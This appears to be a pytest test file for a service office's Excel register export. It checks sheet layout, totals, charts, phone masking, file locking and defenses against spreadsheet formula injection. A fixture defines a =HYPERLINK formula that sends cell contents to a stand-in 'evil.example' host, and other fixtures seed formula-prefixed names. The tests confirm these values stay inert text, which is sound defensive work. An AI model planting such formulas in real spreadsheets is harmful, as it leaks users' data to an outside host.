"""R9 registers read back with openpyxl: sheets, headers, cell types, row counts, totals, charts,
formula injection (FIELD_NOTES / OWASP) and masked phones (R10.1)."""

from __future__ import annotations

import json
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from app.demo import fill_demo_office
from app.errors import ValidationError
from app.files import FileLockedError, excel_lock_file, save_atomically
from app.models import (
    Appraisal,
    AuditEntry,
    Customer,
    FollowUpVisit,
    Incident,
    PatrolRecord,
    Site,
    Staff,
    Ticket,
    TrainingAttendance,
    TrainingSession,
    WorkOrder,
    WorkOrderPart,
)
from app.registers import MONTHLY_PACK, REGISTERS, export
from app.registers.period import parse_period
from app.registers.writer import Options
from tests.conftest import NOW

PERIOD = parse_period("2026-Q3")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def demo_office(office):
    fill_demo_office(NOW, seed=3, customers=40, tickets=260)
    # The demo's own incidents, training and patrols are cleared: these tests count hand-built ones.
    for model in (Incident, TrainingAttendance, TrainingSession, PatrolRecord):
        model.delete().execute()
    techs = list(Staff.select().where(Staff.role == "technician").limit(3))
    site = Site.select().first()
    PatrolRecord.create(site=site, day=date(2026, 8, 12), inspector=techs[0], findings="+外墙无渗漏")
    PatrolRecord.create(site=site, day=date(2026, 10, 2), inspector=techs[0], findings="outside")
    Appraisal.create(
        staff=techs[0],
        month="2026-08",
        figures=json.dumps({"jobs_completed": 31, "first_time_fix_rate": 0.94, "satisfaction": 4.6}),
        score=Decimal("91.5"),
        grade="A",
        approved_by=office,  # August is approved: the register shows it exactly as approved (R8.4)
        approved_at=NOW,
    )
    for kind, amount in (("penalty", 20), ("penalty", 100), ("reward", 200)):
        Incident.create(
            staff=techs[1],
            kind=kind,
            incident_type="late_arrival",
            amount=amount,
            day=date(2026, 9, 3),
            recorded_at=NOW,
        )
    session = TrainingSession.create(
        day=date(2026, 7, 9), topic="防水规范", trainer="张工", hours=Decimal("2.5")
    )
    for t in techs:
        TrainingAttendance.create(session=session, staff=t)
    # A customer's remark that Excel would run as a formula, and one starting with @.
    visit = FollowUpVisit.select().where(FollowUpVisit.at.between(PERIOD.start, PERIOD.end)).first()
    visit.remarks = EVIL
    visit.save()
    Customer.update(name="@SUM(1+1)").where(Customer.id == visit.ticket.customer_id).execute()
    return office


def _export(tmp_path, codes=MONTHLY_PACK, **options):
    path = tmp_path / "pack.xlsx"
    manager = Staff.get(Staff.name == "王丽").id  # the office fixture's manager
    export(codes, PERIOD, path, Options(**options), NOW, manager)
    return openpyxl.load_workbook(path)


def _data(ws, totals: bool = False):
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    if totals:
        rows = rows[:-1]
    return rows


def test_monthly_pack_holds_every_register_with_title_header_freeze_and_filter_R9(tmp_path, demo_office):
    wb = _export(tmp_path)
    assert wb.sheetnames == [
        "Intake register",
        "Complaint register",
        "Complaint follow-up",
        "Dispatch log",
        "Follow-up visit register",
        "Patrol records",
        "Appraisal records",
        "Training records",
        "Cost report",
        "Monthly complaint analysis",
        "Pack",  # what head office checks and merges it by (tests/app/test_head_office.py)
    ]
    for code, ws in zip(MONTHLY_PACK[:-1], wb.worksheets[:-2], strict=True):
        title = ws["A1"].value
        assert "上海浦东售后服务部" in title and "2026-Q3" in title and REGISTERS[code].name in title
        assert ws["A1"].font.bold
        headers = [c.value for c in ws[2]]
        assert headers == [c.header for c in REGISTERS[code].columns]
        assert all(c.font.bold for c in ws[2])
        assert ws.freeze_panes == "A3"
        assert ws.auto_filter.ref.startswith("A2:")
        assert all(ws.column_dimensions[chr(65 + i)].width >= 6 for i in range(min(len(headers), 26)))


def test_intake_register_rows_match_the_database_with_real_dates_R9(tmp_path, demo_office):
    ws = _export(tmp_path, ["intake"])["Intake register"]
    rows = _data(ws)
    expected = Ticket.select().where((Ticket.received_at >= PERIOD.start) & (Ticket.received_at < PERIOD.end))
    assert len(rows) == expected.count() > 20
    assert ws.auto_filter.ref == f"A2:R{2 + len(rows)}"
    first = expected.order_by(Ticket.received_at, Ticket.id).first()
    assert rows[0][0] == first.number
    assert isinstance(rows[0][1], datetime) and rows[0][1] == first.received_at
    assert ws["B3"].number_format == "yyyy-mm-dd hh:mm" and ws["B3"].data_type == "d"
    assert rows[0][3] == "Repair request" or rows[0][3] in ("Complaint", "Consultation", "Suggestion")
    assert all(isinstance(r[1], datetime) for r in rows)


def test_money_is_numeric_with_a_currency_format_and_totals_add_up_R9(tmp_path, demo_office):
    ws = _export(tmp_path, ["costs"])["Cost report"]
    rows = _data(ws, totals=True)
    finished = WorkOrder.select().where(
        (WorkOrder.finished_at >= PERIOD.start) & (WorkOrder.finished_at < PERIOD.end)
    )
    assert len(rows) == finished.count() > 5
    assert all(isinstance(r[6], int | float) and isinstance(r[7], int | float) for r in rows)
    assert "¥" in ws["G3"].number_format
    total_row = next(ws.iter_rows(min_row=ws.max_row, values_only=True))
    assert total_row[0] == f"Total ({len(rows)} rows)"
    parts = sum(
        float(p.quantity * p.unit_cost)
        for p in WorkOrderPart.select().where(WorkOrderPart.work_order.in_(finished))
    )
    labour = sum(float(o.labour_cost) for o in finished)
    assert total_row[6] == pytest.approx(parts) and total_row[7] == pytest.approx(labour)
    assert total_row[8] == pytest.approx(parts + labour)
    # a free repair is borne by the company in full (R5.4)
    for r in rows:
        if r[5] == "No":
            assert r[9] == 0 and r[10] == pytest.approx(r[8])


def test_every_register_counts_what_the_database_holds_R9(tmp_path, demo_office):
    wb = _export(tmp_path)
    in_period = lambda f: (f >= PERIOD.start) & (f < PERIOD.end)  # noqa: E731
    complaints = Ticket.select().where((Ticket.kind == "complaint") & in_period(Ticket.received_at)).count()
    assert len(_data(wb["Complaint register"])) == complaints > 0
    assert len(_data(wb["Complaint follow-up"])) == complaints
    orders = WorkOrder.select().where(in_period(WorkOrder.window_start)).count()
    assert len(_data(wb["Dispatch log"], totals=True)) == orders
    visits = FollowUpVisit.select().where(in_period(FollowUpVisit.at)).count()
    assert len(_data(wb["Follow-up visit register"])) == visits
    patrols = _data(wb["Patrol records"])
    assert len(patrols) == 1 and patrols[0][0] == datetime(2026, 8, 12)
    appraisal = _data(wb["Appraisal records"], totals=True)
    # August approved: its one stored row as approved; July and September live, as the tab shows.
    assert [(r[0], r[2], r[9], r[10]) for r in appraisal if r[0] == "2026-08"] == [("2026-08", 31, 91.5, "A")]
    from app.services import appraisal as appraisal_service

    names = dict(Staff.select(Staff.id, Staff.name).tuples())
    live = [f for f in appraisal_service.month_figures(PERIOD.months()) if f.month != "2026-08"]
    assert live and [
        (r[0], r[1], r[2], r[9]) for r in appraisal if r[0] != "2026-08" and r[2] is not None
    ] == [
        (f.month, names[f.staff_id], f.figures.get("jobs_completed"), f.score)
        for f in sorted(live, key=lambda f: (f.month, f.staff_id))
        if f.figures.get("jobs_completed") is not None
    ]
    penalties = [r for r in appraisal if r[11]]
    assert [(r[0], r[11], r[12], r[13], r[14]) for r in penalties] == [("2026-09", 2, 120, 1, 200)]
    training = _data(wb["Training records"], totals=True)
    assert training == [(datetime(2026, 7, 9), "防水规范", "张工", 2.5, 3, training[0][5])]


def test_complaint_analysis_compares_with_the_previous_period_and_has_charts_R6_3(tmp_path, demo_office):
    ws = _export(tmp_path, ["complaint_analysis"])["Monthly complaint analysis"]
    values = {r[0]: r[1:] for r in ws.iter_rows(values_only=True) if r[0]}
    prev = parse_period("2026-Q2")

    def count(p):
        received = (Ticket.received_at >= p.start) & (Ticket.received_at < p.end)
        return Ticket.select().where((Ticket.kind == "complaint") & received).count()

    assert values["Complaints received"][:3] == (count(PERIOD), count(prev), count(PERIOD) - count(prev))
    for section in ("By complaint type", "By cause", "By responsible department", "By result"):
        assert section in values
    assert 0 <= values["On-time rate (result fed back in time)"][0] <= 1
    rate_row = next(r for r in ws.iter_rows() if r[0].value == "On-time rate (result fed back in time)")
    assert "%" in rate_row[1].number_format
    types = ["Service attitude", "Quality", "Timeliness", "Fees", "Other"]
    assert sum(values[t][0] for t in types) == count(PERIOD)
    assert len(ws._charts) == 4
    assert {type(c).__name__ for c in ws._charts} == {"BarChart", "PieChart"}


def test_formula_like_text_stays_text_and_phones_are_masked_R10_1(tmp_path, demo_office):
    wb = _export(tmp_path, ["follow_ups", "intake"])
    ws = wb["Follow-up visit register"]
    cell = next(c for row in ws.iter_rows(min_row=3) for c in row if c.value == EVIL)
    assert cell.data_type == "s" and cell.quotePrefix
    at = next(c for row in ws.iter_rows(min_row=3) for c in row if c.value == "@SUM(1+1)")
    assert at.data_type == "s" and at.quotePrefix
    phones = [r[3] for r in _data(ws)]
    assert phones and all("****" in p for p in phones)
    raw = openpyxl.load_workbook(tmp_path / "pack.xlsx", read_only=False)
    assert not any(c.data_type == "f" for w in raw for row in w.iter_rows() for c in row)


def test_unmasked_export_needs_its_permission_and_shows_full_numbers_R10_1(tmp_path, demo_office):
    receptionist = Staff.select().where(Staff.role == "receptionist").first().id
    with pytest.raises(ValidationError):
        export(["intake"], PERIOD, tmp_path / "x.xlsx", Options(mask_phones=False), NOW, receptionist)
    export(["intake"], PERIOD, tmp_path / "x.xlsx", Options(mask_phones=False), NOW, demo_office)
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx")["Intake register"]
    assert any(r[5] and "*" not in r[5] and len(r[5]) >= 11 for r in _data(ws))
    entry = AuditEntry.select().where(AuditEntry.action == "export").order_by(AuditEntry.id.desc()).first()
    assert entry.actor_id == demo_office and json.loads(entry.changes)["masked"] == [None, False]


def test_headers_and_labels_follow_the_callers_language(tmp_path, demo_office):
    zh = {"Ticket no.": "工单号", "Repair request": "报修", "Intake register": "来电来函登记表"}
    wb = _export(tmp_path, ["intake"], translate=lambda ctx, text: zh.get(text, text))
    ws = wb["来电来函登记表"]
    assert ws["A2"].value == "工单号"
    assert "报修" in [r[3] for r in _data(ws)]


def test_a_cancelled_export_leaves_the_old_file_untouched(tmp_path, demo_office):
    target = tmp_path / "pack.xlsx"
    target.write_bytes(b"previous export")

    def cancel(done, total):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        export(["intake"], PERIOD, target, Options(), NOW, demo_office, progress=cancel)
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".xlsx"] == ["pack.xlsx"]


def test_a_workbook_open_in_excel_is_reported_not_overwritten(tmp_path):
    target = tmp_path / "pack.xlsx"
    target.write_bytes(b"open in Excel")
    excel_lock_file(target).write_bytes(b"owner")
    with pytest.raises(FileLockedError) as err:
        save_atomically(target, lambda tmp: tmp.write_bytes(b"new"))
    assert "pack.xlsx" in str(err.value)
    assert target.read_bytes() == b"open in Excel"


def test_periods_parse_months_quarters_and_ranges():
    assert parse_period("2026-10").label == "2026-10"
    assert parse_period("2026-10").previous().label == "2026-09"
    assert parse_period("2026-01").previous().label == "2025-12"
    q = parse_period("2026-Q4")
    assert (q.first, q.last, q.previous().label) == (date(2026, 10, 1), date(2026, 12, 31), "2026-Q3")
    r = parse_period("2026-10-01..2026-10-10")
    assert r.previous().first == date(2026, 9, 21)
    with pytest.raises(ValidationError):
        parse_period("October")
    with pytest.raises(ValidationError):
        parse_period("2026-10-10..2026-10-01")


def test_formula_like_branch_and_names_stay_text_on_every_register_R10_1(tmp_path, demo_office):
    """Issue 15 point 7: a branch called '=…' (or after a tab or CR) never becomes a live
    formula in A1 of a register, nor any name, address or remark in its rows."""
    from app import db
    from app.models import Department
    from app.services import settings

    with db.write_transaction():
        settings.put(settings.BRANCH_NAME, EVIL)
        for i, c in enumerate(Customer.select()):
            Customer.update(name=("=", "+", "-", "@", "\t=", "\r=")[i % 6] + c.name).where(
                Customer.id == c.id
            ).execute()
        for s in Staff.select():
            Staff.update(name="=" + s.name).where(Staff.id == s.id).execute()
        for d in Department.select():
            Department.update(name="@" + d.name).where(Department.id == d.id).execute()
    path = tmp_path / "pack.xlsx"
    export(MONTHLY_PACK, PERIOD, path, Options(), NOW, demo_office)  # the manager (R10.1a)
    wb = openpyxl.load_workbook(path)
    assert len(wb.worksheets) == len(MONTHLY_PACK) + 1  # and the pack sheet, last
    pack_sheet = wb.worksheets[-1]
    branch = next(r[2] for r in pack_sheet.iter_rows() if r[0].value == "branch_name")
    assert branch.value == EVIL and branch.data_type == "s" and branch.quotePrefix
    for ws in wb.worksheets[:-1]:
        a1 = ws["A1"]
        assert a1.value.startswith("=HYPERLINK") and a1.data_type == "s" and a1.quotePrefix, ws.title
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert not any(c.data_type == "f" for c in cells), ws.title
        formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
        assert all(c.quotePrefix and c.data_type == "s" for c in formula_like), ws.title
        assert formula_like[1:] or ws.max_row <= 3, f"{ws.title}: no formula-like name reached the sheet"
